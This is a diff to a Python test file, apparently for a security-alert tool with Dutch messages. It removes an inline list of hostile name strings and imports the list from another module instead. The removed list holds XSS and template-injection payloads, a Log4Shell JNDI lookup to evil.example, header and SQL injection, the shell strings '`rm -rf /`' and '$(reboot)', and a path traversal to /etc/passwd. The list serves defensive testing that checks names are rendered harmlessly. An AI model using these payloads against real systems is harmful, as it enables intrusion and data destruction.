@@ -30,6 +30,7 @@ from ibpmon.tell.sentences import Writer
 from ibpmon.tell.telling import Desk, tell
 from ibpmon.tell.words import fill, said, shown, wrapped
 from tests.conftest import MONDAY, OpenStore
+from tests.hostile_names import HOSTILE
 from tests.test_alerts import Rule, Words, found, judged
 
 CHECKOUT = Path(__file__).resolve().parent.parent
@@ -49,88 +50,6 @@ DEVICE_RULE = Rule(
     message=Words(line="{name} van {user_name} zweeg {last_sync_days} dagen."),
 )
 SPRAY_RULE = Rule("password-spray", message=Words(line="Vanaf {ip_address} op: {upns}."))
-
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<b>vet</b>",
-    '"><svg onload=alert(1)>',
-    "'><a href='//evil.example'>x</a>",
-    "{{ 7*7 }}",
-    "{% raw %}",
-    "{# weg #}",
-    "{0.__class__}",
-    "{name}",
-    "{",
-    "}",
-    "}}",
-    "%s%n%(x)s",
-    "${jndi:ldap://evil.example/a}",
-    "https://evil.example/login",
-    "HTTP://EVIL.EXAMPLE",
-    "www.evil.example",
-    "evil.example/wachtwoord",
-    "javascript:alert(1)",
-    "mailto:a@evil.example",
-    "data:text/html,x",
-    "[klik](https://evil.example)",
-    "Jan\r\nBcc: all@evil.example",
-    "Jan\nSubject: nep",
-    "Jan\x00Nul",
-    "\x1b[31mrood\x1b[0m",
-    "\x07bel",
-    "\x7fdel",
-    "\x85volgende",
-    "\u202egnp.exe",
-    "\u2066links\u2069",
-    "\u200fnaar rechts",
-    "a\u200bb\u200cc",
-    "\ufeffbom",
-    "\u2028regel",
-    "\u2029alinea",
-    "\u3164",
-    "\u2800\u2800",
-    "\u00ad",
-    "\u180e",
-    "e" + "\u0301" * 60 + "zalgo",
-    "\ud800",
-    "Jan \udfff Half",
-    "\ue000privé",
-    "\U000e0041tag",
-    "\uffff",
-    "\U0010ffff",
-    "Ünïcödé Ñame",
-    "名前 太郎",
-    "اسم عربي",
-    "שם עברי",
-    "👩‍👩‍👧‍👦 gezin",
-    "=1+1",
-    "+31",
-    "-1",
-    "@SUM(A1)",
-    "=?utf-8?q?nep?=",
-    '"; DROP TABLE alert; --',
-    "A" * 5000,
-    " " * 50 + "ver",
-    "\t tab",
-    "&lt;b&gt; &amp;",
-    "<!--",
-    "-->",
-    "]]>",
-    "<![CDATA[x]]>",
-    "</td></tr></table><h1>nep</h1>",
-    "<style>*{display:none}</style>",
-    "<meta http-equiv=refresh content=0>",
-    "`rm -rf /`",
-    "$(reboot)",
-    "../../etc/passwd",
-    "Jan, Piet <x@evil.example>",
-    "null",
-    "None",
-    "0",
-    "tel:0900",
-    "a" * 300 + "://b",
-)
 
 
 @pytest.fixture(autouse=True)
@@ -436,7 +355,7 @@ def test_a_hostile_name_is_seen_and_does_nothing(config: Config, name: str) -> N
         assert not re.search(r"(?i)(https?|ldap)://|www\.|javascript:|mailto:", form)
         form.encode("utf-8")
     assert "\n" not in draft.subject
-    assert shown(name).strip()
+    assert said(name, config.time_zone).strip()
 
 
 def group(line: str, name: str) -> Group:
